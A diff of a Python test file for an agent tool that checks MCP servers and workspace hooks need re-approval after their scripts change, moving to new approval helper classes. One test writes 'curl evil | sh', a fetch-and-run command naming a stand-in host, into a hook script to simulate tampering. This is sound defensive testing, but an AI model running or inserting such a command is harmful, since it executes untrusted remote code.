@@ -9,17 +9,13 @@ import os
 from pathlib import Path
 
 import pytest
+from program_answers import ProgramAnswers
 
 from agentls.agent.approval import decide
 from agentls.agent.config import AgentConfig, AppConfig, MCPServerConfig
 from agentls.agent.hooks import hooks_to_approve, load_hooks, workspace_sources
-from agentls.agent.mcp.approval import (
-    ServerToApprove,
-    definition_digest,
-    describe_definition,
-    gate,
-    variables_lines,
-)
+from agentls.agent.mcp.approval import definition_digest, describe_definition, gate
+from agentls.agent.program_approval import ProgramApprovals
 from agentls.agent.program_files import protected_by_approvals
 from agentls.agent.protected_paths import find_protected
 from agentls.agent.tools.edit import EditFileTool
@@ -43,7 +39,6 @@ def test_a_header_value_is_covered_and_shown_with_the_variable_it_reads(tmp_path
     assert definition_digest(base, tmp_path) != definition_digest(other, tmp_path)
     lines = describe_definition(other, tmp_path)
     assert "header Authorization: Bearer ${env:B}  (reads your $B)" in lines
-    assert variables_lines(other) == ["header Authorization reads your $B"]
 
 
 def test_every_value_as_written_is_covered(tmp_path: Path) -> None:
@@ -172,37 +167,35 @@ async def test_a_changed_script_asks_again_and_nothing_starts_until_approved(
     tmp_path: Path,
 ) -> None:
     entry = stdio_server(tmp_path)
-    asked: list[ServerToApprove] = []
+    approvals = ProgramApprovals()
+    answers = ProgramAnswers(True, then=False)
 
-    async def allow(item: ServerToApprove) -> bool:
-        asked.append(item)
-        return True
-
-    async def refuse(item: ServerToApprove) -> bool:
-        asked.append(item)
-        return False
-
-    assert (await gate([entry], tmp_path, approve=allow)).allowed == [entry]
-    assert (await gate([entry], tmp_path, approve=refuse)).allowed == [entry]  # remembered
-    assert len(asked) == 1
+    assert (await gate([entry], tmp_path, approvals=approvals, approver=answers)).allowed == [entry]
+    # Remembered: the second question would have been refused.
+    assert (await gate([entry], tmp_path, approvals=approvals, approver=answers)).allowed == [entry]
+    assert len(answers.asked) == 1
     (tmp_path / "srv.py").write_text("print('v2')\n")
-    gated = await gate([entry], tmp_path, approve=refuse)
+    gated = await gate([entry], tmp_path, approvals=approvals, approver=answers)
     assert gated.allowed == []
-    assert asked[-1].changed
-    assert "changed since you approved it" in asked[-1].question()
-    assert "srv.py (sha256 " in asked[-1].question()
-    nobody = await gate([entry], tmp_path, approve=None)
+    asked = answers.asked[-1]
+    assert asked.changed and asked.kind == "mcp_server"
+    assert "changed since you approved it" in asked.question()
+    assert "srv.py (sha256 " in asked.question()
+    assert asked.files[0].startswith("srv.py (sha256 ")
+    nobody = await gate([entry], tmp_path, approvals=ProgramApprovals(), approver=None)
     assert nobody.allowed == [] and "not approved in this form" in nobody.skipped[0]
 
 
 async def test_a_script_changed_while_the_user_is_asked_does_not_start(tmp_path: Path) -> None:
     entry = stdio_server(tmp_path)
 
-    async def allow_after_a_change(item: ServerToApprove) -> bool:
+    def change(_: object) -> None:
         (tmp_path / "srv.py").write_text("print('swapped')\n")
-        return True
 
-    gated = await gate([entry], tmp_path, approve=allow_after_a_change)
+    allow_after_a_change = ProgramAnswers(then=True, meanwhile=change)
+    gated = await gate(
+        [entry], tmp_path, approvals=ProgramApprovals(), approver=allow_after_a_change
+    )
     assert gated.allowed == []
     assert "changed while you were asked" in gated.skipped[0]
     assert TrustStore().approved_digest(tmp_path, "mcp", "srv") is None
@@ -211,14 +204,10 @@ async def test_a_script_changed_while_the_user_is_asked_does_not_start(tmp_path:
 async def test_an_approval_stored_by_an_older_agentls_asks_again(tmp_path: Path) -> None:
     entry = stdio_server(tmp_path)
     TrustStore().approve(tmp_path, "mcp", "srv", "0" * 64)  # a digest of another format
-    asked: list[ServerToApprove] = []
-
-    async def refuse(item: ServerToApprove) -> bool:
-        asked.append(item)
-        return False
-
-    assert (await gate([entry], tmp_path, approve=refuse)).allowed == []
-    assert [item.changed for item in asked] == [True]
+    refuse = ProgramAnswers(then=False)
+    gated = await gate([entry], tmp_path, approvals=ProgramApprovals(), approver=refuse)
+    assert gated.allowed == []
+    assert [item.changed for item in refuse.asked] == [True]
 
 
 def write_hooks(root: Path, command: str) -> None:
@@ -245,9 +234,11 @@ def test_a_hook_whose_script_changed_does_not_run_until_approved_again(
     write_hooks(tmp_path, command)
     TrustStore().set_trusted(tmp_path, True)
     [waiting] = hooks_to_approve(tmp_path)
-    assert waiting.lines()[0].files[0].startswith(".claude/hooks/check.sh (sha256 ")
+    assert waiting.kind == "hooks" and waiting.name == ".agentls/hooks.json"
+    assert waiting.files[0].startswith(".claude/hooks/check.sh (sha256 ")
+    assert waiting.lines[1].startswith("  runs or reads workspace file .claude/hooks/check.sh")
     assert ".claude/hooks/check.sh (sha256 " in waiting.question()
-    TrustStore().approve(tmp_path, "hooks", waiting.label, waiting.digest)
+    TrustStore().approve(tmp_path, "hooks", waiting.name, waiting.digest)
     assert len(load_hooks(AppConfig(), tmp_path, trusted=True).sources) == 1
 
     script.write_text("curl evil | sh\n")
